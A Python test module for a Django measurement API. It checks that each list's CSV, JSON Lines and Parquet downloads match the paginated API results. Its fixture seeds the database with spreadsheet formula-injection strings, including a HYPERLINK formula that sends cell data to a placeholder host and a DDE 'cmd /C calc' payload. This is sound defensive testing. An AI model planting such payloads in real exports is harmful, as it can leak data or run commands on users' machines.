"""Whatever is asked of a list, its CSV, JSON Lines and Parquet are the pages of the API walked to the end, every cell.

Three readers that share nothing with the writers: Python's csv and json, and pyarrow. Names, titles and facts in the
database are texts that a spreadsheet would run, with quotes, newlines and letters of every length.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
from collections.abc import Callable, Iterator
from datetime import date, datetime
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

import pyarrow as pa
import pytest
from django.test import Client
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from pyarrow import parquet

from joulemark.release.columns import Column
from joulemark_simulation.result_rows import GENERAL, SPECIFIC, Run, make_result
from measurements.boards.models import Cell, CellRevision
from measurements.catalog.models import AiModel, DataSet, HardwareClass, NameState, Task
from measurements.downloads.resource import Resource
from measurements.downloads.resource_catalog import DATASETS, HARDWARE_LIST, MODELS_LIST, SUITES, TASKS_LIST
from measurements.downloads.resource_cells import CELLS, COMPARISONS, HISTORY
from measurements.downloads.resource_impact import INTENSITIES, REPORTED_CLAIMS, STUDY_CLAIMS
from measurements.downloads.resource_needs import NEEDS
from measurements.downloads.resource_results import RESULTS_LIST
from measurements.downloads.resource_review import CONTRIBUTORS_LIST, EVIDENCE, LOG_ENTRIES, VERDICTS
from measurements.downloads.resource_rules import RULES
from measurements.downloads.resource_study import PARITIES, RATIOS, SIZE_CONTROLLED
from measurements.intake.models import State
from measurements.review.models import Result
from measurements.streams.formula_guard import unguarded
from measurements.streams.slots import SLOTS
from tests.laws import law
from tests.web.populated import populate

Row = dict[str, Any]
Question = dict[str, str]
TEXTS = (
    '=HYPERLINK("http://x/?"&A1,"é\n🙂")',
    "+1-1\r\n=2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3;'x'\t,",
    '\' =1,""\n',
    "\t= tab",
    "🏴‍☠️ ß Ж 漢\u2028\u202e",
    "\\. \\N NULL null",
    "  ",
)
ONE_LINE = tuple(" ".join(text.split()) for text in TEXTS[:3])
"""Names that results point to: a filter by a name is one line."""
LISTS: dict[str, Resource] = {
    "cells": CELLS,
    "claims/parities": PARITIES,
    "claims/ratios": RATIOS,
    "claims/reported": REPORTED_CLAIMS,
    "claims/size-controlled": SIZE_CONTROLLED,
    "claims/study": STUDY_CLAIMS,
    "comparisons": COMPARISONS,
    "contributors": CONTRIBUTORS_LIST,
    "datasets": DATASETS,
    "evidence": EVIDENCE,
    "hardware": HARDWARE_LIST,
    "intensities/years": INTENSITIES,
    "log/entries": LOG_ENTRIES,
    "models": MODELS_LIST,
    "results": RESULTS_LIST,
    "rules": RULES,
    "suites/versions": SUITES,
    "tasks": TASKS_LIST,
    "verdicts": VERDICTS,
}
"""Every list by its place, beside those of one cell (`history`) and of one suite (`needs`)."""
ENCODINGS = ("identity", "gzip", "zstd")
WORDS = ("nothing", "1", "0", "demo-1-estimated", "7B", *ONE_LINE)
"""Beside what the rows have: what filters take that are no column."""


@pytest.fixture
def lists(committed: None) -> dict[str, tuple[Resource, list[Row]]]:
    """Every list with its rows, whose texts are hostile."""
    values = populate(with_release=False)
    make_result(Run(by="ada", model=GENERAL, tokens=(400, None), peak_memory_bytes=2**33))
    make_result(
        Run(by="grace", state=State.REJECTED, findings=(("JM-B", "reject", TEXTS[0]), ("JM-A", "flag", "")))
    )
    for place, text in enumerate(TEXTS):
        facts = {"title": text, "source": text, "known_from": text}
        task = Task.objects.create(slug=f"{text}{place}", title=text, modality=text, position=place)
        DataSet.objects.create(task=task, slug=text, licence=text, **facts)
        AiModel.objects.create(
            slug=f"{text}{place}",
            kind="general-purpose",
            parameters=None if place % 2 else 2**60 + place,
            released_on=date(2024, 2, 29) if place % 3 else None,
            **dict.fromkeys(("licence", "owner", "family", "link"), text),
            not_known={"link": text, text: [None, 0.1]},
            **facts,
        )
        HardwareClass.objects.create(
            slug=f"{text}{place}", title=text, kind="gpu", name_state=NameState.CONFIRMED, architecture=text
        )
    named = AiModel.objects.create(slug=ONE_LINE[0], title=TEXTS[0], kind="task-specific", family=TEXTS[1])
    for table in (Cell, CellRevision, Result):
        of_one: Any = table._base_manager.filter(model__slug=SPECIFIC)
        of_one.update(model=named)
    assert Cell.objects.exists()
    assert CellRevision.objects.exists()
    (digest,) = values["digest"]
    cell_id = "~".join(map(str, CellRevision.objects.order_by("pk")[0].key.values))
    of_cell_or_suite = {f"cells/{quote(cell_id)}/history": HISTORY, f"suites/{digest}/needs": NEEDS}
    found = {}
    for path, resource in (LISTS | of_cell_or_suite).items():
        rows = walked(Client(), path, {}, 1000)
        assert isinstance(rows, list)
        assert rows, path
        found[path] = resource, rows
    return found


def typed(column: Column, value: Any) -> Any:
    """A value of JSON as what its column says that it is."""
    if value is None:
        return None
    match column.kind:
        case "timestamp":
            return datetime.fromisoformat(value)
        case "date":
            return date.fromisoformat(value)
        case "float64":
            assert not isinstance(value, bool)
            return float(value)
        case _:
            return value


def cell_of(column: Column, value: Any) -> Any:
    """What a cell of CSV has of a value, with its guard taken away: null is empty, a list is joined."""
    if value is None:
        return ""
    return ";".join(map(str, value)) if column.kind.startswith("list") else value


def read_cell(column: Column, cell: str) -> Any:
    """The value of a cell of CSV; that of lists and texts is the text."""
    from_text: dict[str, Callable[[str], Any]] = {
        "int64": int,
        "float64": float,
        "bool": {"true": True, "false": False}.__getitem__,
        "timestamp": datetime.fromisoformat,
        "date": date.fromisoformat,
        "json": lambda text: json.loads(unguarded(text)),
    }
    return from_text.get(column.kind, unguarded)(cell) if cell else ""


def drawn(data: st.DataObject, resource: Resource, rows: list[Row]) -> tuple[Question, Question]:
    """Filters with an order, and what a file is asked beside: columns. Values are those of rows, or others."""
    asked: Question = {}
    for each in data.draw(st.lists(st.sampled_from(resource.filters or (None,)), max_size=3, unique=True)):
        if each is not None:
            found = sorted({str(row[each.name]) for row in rows if row.get(each.name) not in (None, "")})
            asked[each.name] = data.draw(
                st.sampled_from([*each.choices, *found] * 3 + [*WORDS]), label=each.name
            )
    if resource.sorts and data.draw(st.sampled_from([False, True])):
        asked["sort"] = data.draw(st.sampled_from(["", "-"])) + data.draw(
            st.sampled_from(sorted(resource.sorts))
        )
    fields = data.draw(st.lists(st.sampled_from(resource.field_names), max_size=4))
    return asked, {"fields": ",".join(fields)} if fields else {}


def walked(client: Client, path: str, asked: Question, limit: int) -> list[Row] | str:
    """The rows of all pages, or the code of a refusal. The list of results has the latest first: turned around."""
    are_results = path == "results"
    following = f"/api/v1/{path}/?{urlencode(asked | {'page_size' if are_results else 'limit': limit})}"
    rows: list[Row] = []
    while following:
        answer = client.get(following)
        if answer.status_code != 200:
            assert answer.status_code == 400, answer.content
            return str(answer.json()["code"])
        page = answer.json()
        rows += page["results" if are_results else "rows"]
        parts = urlsplit(page["next"] or "")
        following = f"{parts.path}?{parts.query}" if page["next"] else ""
    return rows[::-1] if are_results else rows


def streamed(client: Client, address: str, encoding: str) -> bytes | str:
    """The file with its compression taken away, or the code of a refusal."""
    answer: Any = client.get(address, headers={"Accept-Encoding": encoding})
    if answer.status_code != 200:
        assert answer.status_code == 400, answer.content
        return str(answer.json()["code"])
    data = b"".join(answer.streaming_content)
    match answer.get("Content-Encoding", "identity"):
        case "gzip":
            return gzip.decompress(data)
        case "zstd":
            return bytes(pa.CompressedInputStream(pa.BufferReader(data), "zstd").read())
    return data


def rows_of_file(form: str, data: bytes, columns: dict[str, Column]) -> Iterator[Row]:
    """The rows of a file, with values of their columns; of CSV see `cell_of`."""
    if form == "csv":
        for cells in csv.DictReader(io.StringIO(data.decode(), newline=""), strict=True):
            assert cells.pop("simulated") == "false"
            yield {name: read_cell(columns[name], cell) for name, cell in cells.items()}
    elif form == "jsonl":
        for line in data.decode().split("\n")[:-1]:
            row = json.loads(line)
            assert row.pop("simulated") is False
            yield {name: typed(columns[name], value) for name, value in row.items()}
    else:
        for row in parquet.read_table(pa.BufferReader(data)).to_pylist():
            assert row.pop("simulated") is False
            yield {
                name: json.loads(value) if value is not None and columns[name].kind == "json" else value
                for name, value in row.items()
            }


@pytest.mark.django_db
def test_every_list_of_the_api_is_here() -> None:
    """A list that is added later is held to the law too."""
    from measurements.downloads.urls import urlpatterns

    files = {
        str(each.pattern).removesuffix(".parquet")
        for each in urlpatterns
        if str(each.pattern).endswith(".parquet")
    }
    of_one = {"cells/<cell_id:cell_id>/history", "suites/<digest:digest>/needs"}
    assert files == {*LISTS, *of_one}


@pytest.mark.laws
@pytest.mark.timeout(1200)
@settings(
    parent=law(share=0.02, in_every_run=2),
    phases=[Phase.generate],
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(st.data())
def test_every_form_is_the_pages_walked_to_the_end(
    lists: dict[str, tuple[Resource, list[Row]]], data: st.DataObject
) -> None:
    client = Client()
    for path, (resource, rows) in lists.items():
        columns = {each.name: each.column for each in resource.fields}
        asked, beside = drawn(data, resource, rows)
        pages = walked(client, path, asked, data.draw(st.sampled_from([1000, 40])))
        for form in ("csv", "jsonl", "parquet"):
            where = f"/api/v1/{path}.{form}?{urlencode(asked | beside)}"
            file = streamed(client, where, data.draw(st.sampled_from(ENCODINGS)))
            if isinstance(file, str) or isinstance(pages, str):
                assert isinstance(file, str), where
                assert isinstance(pages, str), where
                assert file == pages or path == "results", "pages of results have codes of their own"
                continue
            found = list(rows_of_file(form, file, columns))
            assert len(found) == len(pages), where
            names = [name for name in columns if not beside or name in beside["fields"].split(",")]
            for row, page in zip(found, pages, strict=True):
                assert list(row) == names, where
                expected = {name: typed(columns[name], page[name]) for name in names if name in page}
                if form == "csv":
                    expected = {name: cell_of(columns[name], value) for name, value in expected.items()}
                assert {name: row[name] for name in expected} == expected, where
    assert SLOTS.n_taken == 0
